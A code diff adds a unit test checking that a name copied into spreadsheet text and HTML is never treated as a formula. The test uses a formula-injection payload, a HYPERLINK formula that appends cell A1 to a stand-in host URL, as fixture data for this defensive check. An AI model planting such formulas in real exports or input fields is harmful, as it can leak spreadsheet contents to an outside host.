@@ -55,3 +55,10 @@ test('a name can neither divide cells nor become markup', () => {
   expect(cellsOf(text)[1]).toEqual(['Xã <A> & "B" C', '1']);
   expect(html).toContain('Xã &lt;A&gt;\t&amp; &quot;B&quot;\nC');
 });
+
+test('a name is never a formula where it is pasted', () => {
+  const breakdown = breakdownOf(['unit'], [], [[['=HYPERLINK("http://x/"&A1)'], [], 1]]);
+  const { text, html } = copied(modelOf(breakdown));
+  expect(cellsOf(text)[1]).toEqual(['\'=HYPERLINK("http://x/"&A1)', '1']);
+  expect(html).toContain("mso-number-format:'\\@'\">=HYPERLINK(&quot;http://x/&quot;&amp;A1)</th>");
+});
